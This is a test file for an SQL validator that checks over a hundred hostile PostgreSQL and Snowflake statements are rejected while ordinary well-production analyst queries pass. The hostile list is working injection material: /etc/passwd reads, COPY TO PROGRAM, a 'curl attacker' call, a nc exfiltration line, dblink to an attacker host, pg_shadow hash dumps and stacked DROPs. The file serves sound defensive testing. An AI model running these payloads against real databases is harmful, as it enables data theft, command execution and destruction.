import { expect } from 'chai';
import { validateSql } from '../../../streams/connectors/sql-validator';

/**
 * The validator as an allowlist of resolved names, table-driven: statements from
 * the API review, from PayloadsAllTheThings' "SQL Injection/PostgreSQL Injection.md" (as read
 * at commit 2ac947e; the repository has no Snowflake page, so the warehouse cases follow
 * Snowflake's own system functions and views), and comment and dollar-quote tricks are
 * refused; everyday analyst queries pass.
 */
type Engine = 'postgresql' | 'snowflake';
const pg = (sql: string): [string, Engine] => [sql, 'postgresql'];
const sf = (sql: string): [string, Engine] => [sql, 'snowflake'];

const HOSTILE: [string, Engine][] = [
  // The review's findings: quoted names keep their case, OPERATOR(), XML and JSON table functions, the warehouse generator.
  pg('SELECT "LOWER"(x) FROM t'),
  pg('SELECT "Count"(*) FROM t'),
  pg('SELECT "COALESCE"(a, b) FROM t'),
  pg('SELECT 1 OPERATOR(public.+) 2'),
  pg('SELECT a FROM t WHERE a OPERATOR(pg_catalog.=) 1'),
  pg('SELECT a FROM t ORDER BY a USING OPERATOR(public.<)'),
  pg('SELECT a FROM t WHERE a === 1'),
  pg("SELECT * FROM XMLTABLE('/r' PASSING xmlparse(document '<r/>') COLUMNS a int)"),
  pg("SELECT xmlparse(document '<a/>')"),
  pg("SELECT xmlelement(name a, 'x')"),
  pg("SELECT xmlserialize(content '<a/>' as text)"),
  pg("SELECT * FROM json_table('[1]'::jsonb, '$[*]' COLUMNS (a int PATH '$'))"),
  pg("SELECT json_query('{\"a\":1}'::jsonb, '$.a')"),
  pg('SELECT * FROM generate_series(1, 1000000000000)'),
  pg("SELECT * FROM jsonb_to_record('{}'::jsonb) AS x(a int)"),
  pg('SELECT * FROM unnest(ARRAY[1]) AS u(a int)'),
  pg('SELECT * FROM t TABLESAMPLE public.evil(10)'),
  pg("SELECT 'x'::public.checked_domain"),
  pg("SELECT CAST('x' AS evil_type)"),
  sf('SELECT 1 FROM TABLE(GENERATOR(ROWCOUNT => 1000000000000))'),
  sf('SELECT seq4() FROM TABLE(GENERATOR(ROWCOUNT => 10))'),
  sf("SELECT * FROM TABLE(FLATTEN(INPUT => PARSE_JSON('[1]')))"),
  sf('SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))'),
  sf('SELECT "Count"(*) FROM t'),
  // PayloadsAllTheThings, PostgreSQL: fingerprinting, enumeration helpers, file and network access, timing, stacked queries.
  pg('SELECT version()'),
  pg('SELECT current_database()'),
  pg('SELECT inet_server_addr()'),
  pg("SELECT current_setting('data_directory')"),
  pg("SELECT set_config('log_statement', 'none', false)"),
  pg('SELECT pg_sleep(10)'),
  pg('SELECT CASE WHEN 1=1 THEN pg_sleep(5) ELSE pg_sleep(0) END'),
  pg("SELECT pg_read_file('/etc/passwd', 0, 200)"),
  pg("SELECT pg_ls_dir('./')"),
  pg("SELECT pg_read_binary_file('global/pg_control')"),
  pg("SELECT lo_import('/etc/passwd')"),
  pg("SELECT lo_export(1, '/tmp/x')"),
  pg("SELECT dblink_connect('host=attacker user=x')"),
  pg("SELECT * FROM dblink('host=attacker', 'select 1') AS t(a int)"),
  pg("SELECT query_to_xml('select * from pg_user', true, true, '')"),
  pg("SELECT database_to_xml(true, true, '')"),
  pg("SELECT table_to_xml('pg_shadow', true, true, '')"),
  pg('SELECT xmlagg(xmlelement(name a, usename)) FROM pg_user'),
  pg('SELECT chr(65) || chr(66)'),
  pg("SELECT convert_from(decode('c2VsZWN0', 'base64'), 'utf8')"),
  pg('SELECT pg_terminate_backend(pg_backend_pid())'),
  pg("SELECT nextval('users_id_seq')"),
  pg('SELECT pg_advisory_lock(1)'),
  pg('SELECT txid_current()'),
  pg('SELECT 1; DROP TABLE users'),
  pg("SELECT 1; COPY (SELECT '') TO PROGRAM 'id'"),
  pg("COPY t FROM PROGRAM 'curl attacker'"),
  pg('CREATE TABLE cmd_exec(cmd_output text)'),
  pg('CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql'),
  pg('DO $$ BEGIN PERFORM pg_sleep(1); END $$'),
  pg("ALTER USER postgres PASSWORD 'x'"),
  pg('SELECT * INTO stolen FROM users'),
  pg('WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d'),
  pg("SELECT 1 UNION SELECT pg_read_file('x')"),
  // PayloadsAllTheThings, PostgreSQL, read from the page: current user, users and hashes,
  // privileges, databases, tables and columns, error-based and blind probes, large objects.
  pg('SELECT user'),
  pg('SELECT current_user'),
  pg('SELECT session_user'),
  pg('SELECT getpgusername()'),
  pg('SELECT usename FROM pg_user'),
  pg('SELECT usename, passwd FROM pg_shadow'),
  pg('SELECT usename FROM pg_user WHERE usesuper IS TRUE'),
  pg('SELECT usename, usecreatedb, usesuper, usecatupd FROM pg_user'),
  pg('SHOW is_superuser'),
  pg("SELECT current_setting('is_superuser')"),
  pg('SELECT usesuper FROM pg_user WHERE usename = CURRENT_USER'),
  pg('SELECT datname FROM pg_database'),
  pg('SELECT table_name FROM information_schema.tables'),
  pg("SELECT column_name FROM information_schema.columns WHERE table_name='data_table'"),
  pg('SELECT cast(chr(126)||version()||chr(126) as numeric)'),
  pg("SELECT a FROM t WHERE 1=cast((SELECT concat('DATABASE: ',current_database())) as int) and '1'='1'"),
  pg('SELECT a FROM t WHERE 1=cast((SELECT table_name FROM information_schema.tables LIMIT 1 OFFSET 0) as int)'),
  pg("SELECT database_to_xmlschema(true,true,'')"),
  pg("SELECT a FROM t WHERE substr(version(),1,10) = 'PostgreSQL'"),
  pg('SELECT a FROM t WHERE 5=(SELECT 5 FROM PG_SLEEP(5))'),
  pg('SELECT a FROM t WHERE 5=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))'),
  pg('SELECT lo_get(16420)'),
  pg('SELECT * FROM pg_largeobject'),
  pg("SELECT lo_from_bytea(43210, 'your file data goes in here')"),
  pg("SELECT lo_put(43210, 20, 'some other data')"),
  pg("SELECT system('cat /etc/passwd | nc 10.0.0.1 4444')"),
  pg('SELECT 1; create table NotSoSecure (data varchar(200))'),
  pg("SELECT * FROM temp limit 1 offset 0; COPY temp FROM '/etc/passwd'"),
  // Comment and dollar-quote tricks: the parser reads what the server would.
  pg('SELECT 1 /* ; */ ; DELETE FROM t'),
  pg('SELECT 1 -- harmless\n; UPDATE t SET a = 1'),
  pg('SELECT $$;$$; DROP TABLE t'),
  pg("SELECT $tag$ ' $tag$, pg_sleep(1)"),
  pg('SELECT/**/pg_sleep(1)'),
  pg('SELECT "pg_sleep"(1)'),
  pg('SELECT pg_catalog.pg_sleep(1)'),
  pg('SELECT public.lower(x) FROM t'),
  pg('SELECT a FROM t FOR UPDATE'),
  // Snowflake: system functions, session and account state, system views, stacked statements.
  sf('SELECT SYSTEM$WHITELIST()'),
  sf('SELECT SYSTEM$GET_SNOWFLAKE_PLATFORM_INFO()'),
  sf('SELECT CURRENT_ACCOUNT()'),
  sf('SELECT CURRENT_ROLE()'),
  sf("EXECUTE IMMEDIATE 'DROP TABLE t'"),
  sf('CALL evil_proc()'),
  sf('USE ROLE ACCOUNTADMIN'),
  sf('ALTER SESSION SET QUERY_TAG = 1'),
  sf('SELECT 1; DROP TABLE t'),
  sf('SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())'),
  sf('SELECT * FROM INFORMATION_SCHEMA.TABLES'),
  sf('SELECT user_name, client_ip FROM SNOWFLAKE.ACCOUNT_USAGE.LOGIN_HISTORY'),
  sf('SELECT my_schema.my_udf(1)'),
  sf('DELETE FROM t'),
  sf('SELECT seq4()'),
];

const REALISTIC: [string, Engine][] = [
  pg('SELECT api, operator_id, status FROM src.wells WHERE operator_id = :operator ORDER BY api LIMIT 100'),
  pg(
    'SELECT api, SUM(oil_bbl) AS oil, SUM(gas_mcf) AS gas FROM src.production WHERE month >= :since::date GROUP BY api ORDER BY oil DESC',
  ),
  pg(
    "SELECT date_trunc('month', flared_at) AS month, SUM(volume_mcf) FROM src.flaring WHERE api = ANY(:apis) GROUP BY 1 ORDER BY 1",
  ),
  pg(
    'SELECT w.api, w.lease_name, p.month, p.oil_bbl FROM src.wells w JOIN src.production p ON p.api = w.api WHERE w.county = :county',
  ),
  pg(
    "SELECT api, COALESCE(last_test_date, spud_date) AS since FROM src.wells WHERE status IN ('SI', 'TA') AND COALESCE(last_test_date, spud_date) < now() - interval '1 year'",
  ),
  pg(
    'WITH latest AS (SELECT api, month, oil_bbl, row_number() OVER (PARTITION BY api ORDER BY month DESC) AS rn FROM src.production) SELECT api, month, oil_bbl FROM latest WHERE rn = 1',
  ),
  pg(
    "SELECT CASE WHEN oil_bbl = 0 THEN 'shut-in' ELSE 'producing' END AS state, count(*) FROM src.production GROUP BY 1",
  ),
  pg(
    'SELECT api, lag(oil_bbl) OVER (PARTITION BY api ORDER BY month) AS previous FROM src.production WHERE api = :api',
  ),
  pg("SELECT lower(lease_name), upper(county), length(api), to_char(spud_date, 'YYYY-MM') FROM src.wells"),
  pg(
    'SELECT api FROM src.wells WHERE NOT EXISTS (SELECT 1 FROM src.production p WHERE p.api = src.wells.api AND p.month > :since)',
  ),
  pg(
    'SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY gas_mcf) FROM src.production WHERE month BETWEEN :from AND :to',
  ),
  pg('SELECT api, (props->>\'depth\')::numeric AS depth FROM src.wells WHERE props @> \'{"type":"oil"}\'::jsonb'),
  pg("SELECT api FROM src.wells WHERE lease_name ILIKE '%' || :name || '%' AND api IS NOT NULL"),
  pg(
    'SELECT pg_catalog.lower(api), count(DISTINCT operator_id) FILTER (WHERE status = :status) FROM src.wells GROUP BY 1',
  ),
  pg('SELECT u.api FROM unnest(:apis::text[]) AS u(api)'),
  sf('SELECT api, SUM(oil_bbl) AS oil FROM prod.monthly WHERE month >= :since GROUP BY api ORDER BY oil DESC LIMIT 50'),
  sf("SELECT api, IFF(oil_bbl > 0, 'producing', 'idle') AS state FROM prod.monthly WHERE operator_id = :operator"),
  sf(
    "SELECT DATE_TRUNC('month', reading_at) AS month, AVG(pressure_psi) FROM scada.readings WHERE api = :api GROUP BY 1",
  ),
  sf('SELECT api, DATEDIFF(day, last_test_date, CURRENT_DATE) AS days FROM wells WHERE status = :status'),
  sf('SELECT w.api, COUNT(*) FROM wells w JOIN inspections i ON i.api = w.api GROUP BY w.api HAVING COUNT(*) > 1'),
];

describe('SQL validator: hostile statements are refused, analyst queries pass', () => {
  it(`holds ${HOSTILE.length} hostile statements and ${REALISTIC.length} realistic ones`, () => {
    expect(HOSTILE.length).to.be.at.least(60);
    expect(REALISTIC.length).to.be.at.least(20);
  });

  for (const [sql, engine] of HOSTILE) {
    it(`refuses on ${engine}: ${sql.replace(/\n/g, ' ')}`, async () => {
      const result = await validateSql(sql, engine);
      expect(result.valid, JSON.stringify(result.errors)).to.equal(false);
      expect(result.errors.length).to.be.greaterThan(0);
    });
  }

  for (const [sql, engine] of REALISTIC) {
    it(`accepts on ${engine}: ${sql}`, async () => {
      const result = await validateSql(sql, engine);
      expect(result.errors, sql).to.deep.equal([]);
    });
  }
});
